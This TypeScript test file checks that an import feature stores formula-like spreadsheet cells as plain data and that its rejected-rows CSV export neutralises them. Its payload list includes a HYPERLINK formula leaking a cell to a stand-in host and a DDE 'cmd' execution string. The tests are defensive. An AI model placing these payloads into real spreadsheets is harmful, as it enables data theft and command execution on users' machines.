import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { escapeXml, workbookOf } from '../fixtures/imports/write-workbook.mjs';
import type { Principal } from '../../server/platform/database/index.js';
import { claimantsOf } from '../support/claimants.js';
import { importFile } from '../support/imports.js';
import { startTestServer, type TestClient, type TestServer } from '../support/server.js';
import { signedInFirm } from '../support/sign-in.js';

/** Texts that a spreadsheet program would run, and one that bears the mark of text already. */
const DANGEROUS = [
  '=HYPERLINK("http://invented.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1 (555) 010-0199',
  '-2+3+cmd',
  '@SUM(1,2)',
  '\tafter a tab',
  '\rafter a return',
  "'=marked as text",
  '＝full width',
  '"=in quotation marks"',
] as const;
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;

const HEADINGS = ['Matter ID', 'Claimant', 'Examiner', 'Date Seen', 'Insurer', 'Defense Firm', 'Comments'];
/** A record whose every text cell is dangerous; one without a date is rejected. */
const record = (at: number, text: string, date: string): string[] => [
  `${text} M${at}`,
  `${text} Pia`,
  'Orla Quist',
  date,
  `${text} Mutual`,
  `${text} LLP`,
  `${text} noted`,
];
const records = (date: (at: number) => string): string[][] =>
  DANGEROUS.map((text, at) => record(at, text, date(at)));
/** Without the apostrophe by which spreadsheet programs, and our lists, mark text: it is not part of it. */
const unmarked = (cell: string): string => cell.replace(/^'(?=[=+\-@\t\r\n＝])/, '');
const csvOf = (rows: readonly (readonly string[])[]): Uint8Array =>
  Buffer.from(
    [HEADINGS, ...rows]
      .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
      .join('\n'),
  );

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

type Stored = { reference: string; claimant: string; carrier: string; law_firm: string; notes: string };
async function stored(principal: Principal): Promise<Stored[]> {
  const claimants = await claimantsOf(server, principal);
  const rows = await server.asOwner<Stored>(
    `select m.reference, c.id as claimant, i.name as carrier, l.name as law_firm, e.notes
       from examination e
       join matter m on m.firm_id = e.firm_id and m.id = e.matter_id
       join claimant c on c.firm_id = e.firm_id and c.id = e.claimant_id
       join organisation i on i.firm_id = e.firm_id and i.id = e.carrier_id
       join organisation l on l.firm_id = e.firm_id and l.id = e.law_firm_id
      where e.firm_id = $1 order by e.examined_on`,
    [principal.firmId],
  );
  return rows.map((row) => ({ ...row, claimant: claimants.get(row.claimant)?.fullName ?? '' }));
}

/** What is stored: the text as it stood, without blanks around it. */
const expected = (): Stored[] =>
  records(() => '')
    .map((cells) => cells.map((cell) => unmarked(cell).trim()))
    .map(([reference = '', claimant = '', _examiner, _date, carrier = '', law_firm = '', notes = '']) => ({
      reference,
      claimant,
      carrier,
      law_firm,
      notes,
    }));

/** As many good records, so that the columns are recognised, and the dangerous ones without a date. */
const undated = (): string[][] => [
  ...DANGEROUS.map((_, at) => record(100 + at, 'plain', `2023-03-${10 + at}`)),
  ...records(() => 'never'),
];

async function downloaded(client: TestClient, importId: string): Promise<string> {
  const response = await client.fetch(`/api/imports/${importId}/rejected.csv`);
  expect(response.headers.get('content-disposition')).toContain('attachment');
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  return response.text();
}

describe('I01 cells that begin like a formula', () => {
  it('are data when they come in, from a text file', async () => {
    const { client, principal } = await signedInFirm(server);
    const bytes = csvOf(records((at) => `2024-03-${10 + at}`));
    const { summary } = await importFile(server, client, { name: 'log.csv', bytes });
    expect(summary).toMatchObject({ accepted: DANGEROUS.length, rejected: 0 });
    expect(await stored(principal)).toEqual(expected());
  });

  it('are data when they come in, from a workbook', async () => {
    const { client, principal } = await signedInFirm(server);
    const rows = [HEADINGS, ...records((at) => `2024-03-${10 + at}`)].map(
      (cells, at) =>
        `<row r="${at + 1}">${cells
          .map((cell) => `<c t="inlineStr"><is><t xml:space="preserve">${escapeXml(cell)}</t></is></c>`)
          .join('')}</row>`,
    );
    const bytes = workbookOf([{ name: 'Log', rows: rows.join('') }]);
    const { summary } = await importFile(server, client, { name: 'log.xlsx', bytes });
    expect(summary).toMatchObject({ accepted: DANGEROUS.length, rejected: 0 });
    expect(await stored(principal)).toEqual(expected());
  });

  it('leave as text, and come back as they were when the list is corrected and imported again', async () => {
    const { client, principal } = await signedInFirm(server);
    const first = await importFile(server, client, { name: 'log.csv', bytes: csvOf(undated()) });
    expect(first.summary).toMatchObject({ accepted: DANGEROUS.length, rejected: DANGEROUS.length });

    const list = await downloaded(client, first.id);
    const rows = parse(list, { bom: true }) as string[][];
    expect(rows[0]?.slice(0, HEADINGS.length)).toEqual(HEADINGS);
    expect(rows.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
    // Beside the mark nothing is changed: quotation marks are doubled, blanks kept.
    const cells = rows.slice(1).map((row) => row.slice(0, HEADINGS.length).map(unmarked));
    expect(cells).toEqual(records(() => 'never').map((row) => row.map(unmarked)));

    let day = 9;
    const corrected = list.replaceAll(',never,', () => `,2024-03-${String((day += 1))},`);
    const again = await importFile(server, client, {
      name: 'rejected-rows.csv',
      bytes: Buffer.from(corrected),
    });
    expect(again.summary).toMatchObject({ accepted: DANGEROUS.length, rejected: 0, duplicates: 0 });
    const isDangerous = ({ notes }: Stored): boolean => !notes.startsWith('plain');
    expect((await stored(principal)).filter(isDangerous)).toEqual(expected());
  });

  it('leave as text a second time, marked once', async () => {
    const { client } = await signedInFirm(server);
    const first = await importFile(server, client, { name: 'log.csv', bytes: csvOf(undated()) });
    const list = await downloaded(client, first.id);
    const second = await importFile(server, client, { name: 'still wrong.csv', bytes: Buffer.from(list) });
    const cellsOf = (text: string) =>
      (parse(text, { bom: true }) as string[][]).map((row) => row.slice(0, HEADINGS.length));
    expect(cellsOf(await downloaded(client, second.id))).toEqual(cellsOf(list));
  });
});
